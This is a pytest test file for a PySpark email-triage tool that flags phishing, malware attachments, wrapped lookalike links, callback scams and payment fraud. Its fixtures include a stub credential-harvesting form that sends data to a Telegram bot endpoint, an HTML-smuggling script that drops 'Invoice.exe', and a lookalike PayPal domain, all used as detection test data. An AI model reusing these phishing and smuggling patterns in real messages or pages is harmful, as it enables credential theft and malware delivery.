"""What pages, wrapped links, patterns and quoted payments add to a verdict."""

import base64

import pytest
from pyspark.sql import functions as F

from mailtriage.operators import language
from mailtriage.plans import corpus_queries, triage

from .samples import CLEAN, NO_MESSAGE

KIT = '<form action="https://collect.kit.test/p.php"><input type=password></form><script>fetch("https://api.telegram.org/bot1:A/send")</script>'
BLOB = base64.b64encode(b"MZ" + b"\7" * 900).decode()
CARRIER = f'<script>var b=new Blob([atob("{BLOB}")]);a.download="Invoice.exe";a.click()</script>'


def with_file(name: str, kind: str, data: str) -> str:
    head, _, body = CLEAN.partition("\n\n")
    head = head.replace("Content-Type: text/plain; charset=utf-8", 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="q"')
    coded = base64.b64encode(data.encode()).decode()
    return f'{head}\n\n--q\nContent-Type: text/plain\n\n{body}\n--q\nContent-Type: {kind}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n{coded}\n--q--\n'


def saying(text: str) -> str:
    return CLEAN.replace("see https://www.example.com/page for the pictures", text)


WRAPPED = "https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2Fpaypa1-verify.top%2Flogin&data=1"
QUOTE = "as agreed\n\nOn Mon, Jan 15, 2024 at 9:00 AM Bob Other <bob@other.test> wrote:\n> {}\n"
ROWS = [
    ("kit", with_file("login.html", "text/html", KIT)), ("carrier", with_file("scan.htm", "text/html", CARRIER)), ("renamed", with_file("a.pdf", "application/pdf", "MZ program")), ("odd", with_file("a.pdf", "application/pdf", "{\\rtf1")),
    ("wrapped", saying(f"see {WRAPPED} now")), ("call", CLEAN.replace("see https://www.example.com/page for the pictures", "please call us at +1 (800) 555-0199")), ("none", NO_MESSAGE), ("empty", ""), ("null", None),
    ("paid", saying(QUOTE.format("please process the payment today")).replace("Subject: ", "Subject: Re: ")), ("unpaid", saying(QUOTE.format("see you there")).replace("Subject: ", "Subject: Re: ")),
]


@pytest.fixture(scope="module")
def by(spark):
    found = triage.analyze(spark.createDataFrame(ROWS, "msg_id string, raw string").repartition(2))
    return {r.msg_id: r for r in found.select("msg_id", "score", "tier", "attack_types", "reasons", "iocs", "file_risks", "files", "findings").collect()}


def kinds(item):
    return [r.type for r in item.risks]


def test_pages_in_files(by):
    kit = by["kit"]
    assert kinds(kit.file_risks[0]) == ["login-form", "exfil", "scripted-page"]
    found = {u.value: kinds(u) for u in kit.iocs.urls if u.source == "page"}
    assert found["https://collect.kit.test/p.php"] == ["credential-form"] and found["https://api.telegram.org/bot1:A/send"] == ["exfil-endpoint", "credential-form"]
    assert kit.tier == "High Risk" and kit.attack_types == ["Credential phishing", "Malware delivery"] and kit.reasons[0].startswith("decisive")


def test_carried_files(by):
    carrier = by["carrier"]
    assert [(f.value, f.within) for f in carrier.file_risks] == [("scan.htm", None), ("Invoice.exe", "scan.htm")]
    assert kinds(carrier.file_risks[0]) == ["smuggled-file", "html-smuggling", "scripted-page"]
    assert kinds(carrier.file_risks[1]) == ["executable-content", "risky-extension"] and carrier.files[1].size == 902
    assert carrier.tier == "High Risk" and "Malware delivery" in carrier.attack_types


def test_types_that_names_hide(by):
    assert kinds(by["renamed"].file_risks[0]) == ["executable-content"] and by["renamed"].tier == "High Risk"
    assert kinds(by["odd"].file_risks[0]) == ["type-mismatch"] and by["odd"].tier == "Low Risk"


def test_wrapped_links(by):
    urls = {u.value: u for u in by["wrapped"].iocs.urls}
    assert urls[WRAPPED].source == "text" and urls["http://paypa1-verify.top/login"].source == "unwrapped"
    assert kinds(urls["http://paypa1-verify.top/login"]) == ["risky-tld", "brand-lookalike"]
    assert "paypa1-verify.top" in {d.value for d in by["wrapped"].iocs.domains}


def test_callback(by):
    assert by["call"].attack_types == ["Callback phishing"]


def test_payment_inside_a_doubtful_thread(by):
    paid, unpaid = ([f.id for f in by[k].findings] for k in ("paid", "unpaid"))
    assert "thread-fake-reply" in paid and "thread-payment" in paid and "BEC / payment fraud" in by["paid"].attack_types
    assert "thread-fake-reply" in unpaid and "thread-payment" not in unpaid and by["unpaid"].tier == "Suspicious"


def test_rejects(spark, by):
    found = triage.rejects(spark.createDataFrame(ROWS, "msg_id string, raw string"))
    assert {tuple(r) for r in found.collect()} == {("none", "no message header"), ("empty", "empty"), ("null", "empty")}
    assert not {"none", "empty", "null"} & by.keys()


def test_patterns_and_overlaps(spark):
    texts = [(1, "Please process the payment of $4,500.00 to DE89 3704 0044 0532 0130 00."), (2, "I'm in a meeting; do not discuss this"), (3, None), (4, "")]
    found = spark.createDataFrame(texts, "msg_id int, text string").select("msg_id", language.hits(F.col("text")).alias("h"))
    rows = {r.msg_id: sorted((m.category, m.tier, m.phrase) for m in r.h) for r in found.collect()}
    assert rows[1] == [("bec", "strong", "process the payment"), ("financial", "broad", "$4,500.00"), ("financial", "strong", "DE89 3704 0044 0532 0130 00")]
    assert rows[2] == [("bec", "strong", "I'm in a meeting"), ("bec", "strong", "do not discuss")]
    assert rows[3] == rows[4] == []
    assert language.without_overlaps([("a", "broad", 0, 9), ("a", "strong", 4, 3), ("b", "broad", 1, 2)]) == [("b", "broad", 1, 2), ("a", "strong", 4, 3)]


def test_phrase_matches_against_plain_search(spark, tmp_path):
    texts = ["Act now! Verify your account.", "No gift cards? GIFT CARD, gift card's", "act\nnow act now now", None, "", "verify your accounts; trust me"]
    spark.createDataFrame(list(enumerate(texts)), "doc_id long, text string").write.parquet(str(tmp_path / "documents.parquet"))
    found = {(r.doc_id, r.category): (r.n_strong, r.n_broad) for r in corpus_queries.phrase_matches(spark, str(tmp_path)).collect()}
    assert found == {(0, "urgency"): (1, 0), (0, "credential"): (1, 0), (1, "bec"): (3, 0), (2, "urgency"): (2, 0), (5, "credential"): (1, 0), (5, "social"): (1, 0)}
